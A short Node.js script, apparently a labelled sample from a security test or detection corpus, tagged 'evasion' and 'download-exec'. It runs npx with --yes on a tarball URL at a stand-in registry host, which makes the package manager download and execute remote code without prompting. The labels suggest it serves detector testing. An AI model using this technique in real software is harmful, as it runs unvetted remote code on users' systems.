// evasion: npx given a tarball URL with --yes: the package manager downloads it and runs its bin (a living-off-the-land download-exec, an argument list, no shell)
// grade: medium; does: download-exec
'use strict';
const { spawnSync } = require('child_process');

const args = ['--yes', '--package', 'https://registry.example.net/-/perf-helper-1.0.2.tgz', 'perf-helper'];
const r = spawnSync('npx', args, { stdio: 'inherit' });
process.exitCode = r.status ?? 1;
